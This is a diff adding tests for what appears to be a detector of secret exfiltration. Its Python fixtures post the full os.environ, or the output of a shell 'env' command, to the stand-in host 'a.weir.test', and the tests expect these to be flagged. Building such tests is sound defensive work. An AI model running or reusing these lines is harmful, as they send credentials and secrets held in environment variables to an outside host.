@@ -29,3 +29,28 @@ describe('files that a folder lists', () => {
     expect(sent(LISTED + statement)).toContain('harvest');
   });
 });
+
+describe('the environment', () => {
+  const SEND = 'requests.post("https://a.weir.test/x", json=';
+
+  test.each([
+    ['that a function looks something up in', `client.user(env=os.environ))`],
+    ['of a program whose output is sent', 'subprocess.run(["git", "log"], env={**os.environ, "A": "b"}))'],
+  ])('is not what is sent: %s', (_which, value) => {
+    const sending = `import client, os, requests, subprocess\ndef go():\n    ${SEND}${value}\n`;
+
+    expect(sent(sending)).not.toContain('envAll');
+  });
+
+  test.each([
+    ['that is written as a text', 'def go():\n    ', 'client.text(os.environ))'],
+    ['that loading hands over', '', 'client.text(env=os.environ))'],
+    [
+      'that a program prints',
+      'def go():\n    ',
+      'subprocess.check_output("env", shell=True, env=os.environ))',
+    ],
+  ])('is sent: %s', (_which, head, value) => {
+    expect(sent(`import client, os, requests, subprocess\n${head}${SEND}${value}\n`)).toContain('envAll');
+  });
+});
